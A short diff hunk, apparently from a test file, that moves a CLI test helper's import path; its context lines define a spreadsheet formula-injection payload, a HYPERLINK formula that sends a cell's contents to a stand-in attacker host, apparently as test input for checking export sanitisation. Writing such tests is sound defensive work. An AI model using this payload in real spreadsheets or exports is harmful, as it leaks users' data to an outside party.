@@ -21,7 +21,7 @@ from app.persistence.db import Database
 from app.persistence.models import AuditEntry
 from app.services import audit
 from tests.conftest import ROOT
-from tests.test_cli import run
+from tests.rigs.cli import run
 
 REMOTE = "100000000010"  # a remote fee-control customer: a sale needs no card
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
